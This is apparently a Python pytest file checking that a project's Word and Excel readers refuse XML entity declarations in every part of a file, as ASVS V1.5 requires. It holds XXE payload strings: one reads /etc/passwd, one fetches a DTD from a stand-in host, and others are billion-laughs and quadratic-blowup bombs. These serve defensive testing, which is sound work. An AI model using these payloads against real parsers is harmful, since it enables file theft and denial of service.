"""ASVS V1.5: XML from outside is read without entities, in every part of a Word or Excel file."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator

import pytest

from documents.errors import TemplateError
from documents.gate import check_package
from forms.readers.excel import read_excel
from forms.readers.workbook import ReadError
from tests.asvs.watching import OUTWARD, memory_peak, watched
from tests.documents.word_files import changed, word
from tests.endless import must_end
from tests.forms.readers.excel_files import write_workbook

EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://elders.example/x.dtd"> %e;]>'
LAUGHS = "<!DOCTYPE x [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {name} '{f'&{before};' * 10}'>" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
) + "<!ENTITY e '&i;'>]>"  # fmt: skip
QUADRATIC = f"<!DOCTYPE x [<!ENTITY e '{'a' * 50_000}'>]>"
ATTACKS = {"external": EXTERNAL, "parameter": PARAMETER, "laughs": LAUGHS, "quadratic": QUADRATIC}
MOST = 100 << 20
"""Bytes in which a file must be refused."""


def parts(file: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(file)) as archive:
        return [name for name in archive.namelist() if name.endswith((".xml", ".rels"))]


def attacked(file: bytes) -> Iterator[tuple[str, bytes]]:
    """The file with each attack in each of its parts, around what the part said."""
    with zipfile.ZipFile(io.BytesIO(file)) as archive:
        contents = {name: archive.read(name).decode() for name in parts(file)}
    for name, content in contents.items():
        body = content[content.index("?>") + 2 :] if content.startswith("<?xml") else content
        inside = "&e;" * 2_000
        at = body.rfind("</") if "</" in body else len(body)
        for attack, head in ATTACKS.items():
            used = body if attack == "parameter" or at == len(body) else f"{body[:at]}{inside}{body[at:]}"
            yield f"{attack} in {name}", changed(file, {name: f'<?xml version="1.0"?>{head}{used}'.encode()})


def refuse(handle: Callable[[bytes], object], error: type[Exception], files: list[tuple[str, bytes]]) -> None:
    for what, file in files:
        with must_end(what), watched(*OUTWARD) as told, memory_peak() as grown, pytest.raises(error):
            handle(file)
        assert grown[0] < MOST, what
        assert told == [], what


@pytest.mark.all
def test_v1_5_1_no_part_of_a_word_file_may_declare_an_entity():
    files = list(attacked(word("tekst", table=("a",), header="kop", footer="voet")))
    assert len(files) >= 10 * len(ATTACKS)
    refuse(check_package, TemplateError, files)


@pytest.mark.all
def test_v1_5_1_no_part_of_an_excel_file_may_declare_an_entity():
    files = list(attacked(write_workbook({"survey": [["type", "name"], ["text", "a"]]})))
    assert len(files) >= 8 * len(ATTACKS)
    refuse(read_excel, ReadError, files)


def test_v1_5_1_an_entity_in_the_text_of_a_document_or_a_form_is_refused():
    files = [file for file in attacked(word("tekst")) if file[0].endswith("in word/document.xml")]
    refuse(check_package, TemplateError, files)
    book = write_workbook({"survey": [["type", "name"], ["text", "a"]]})
    refuse(read_excel, ReadError, [file for file in attacked(book) if "sheet1.xml" in file[0]])
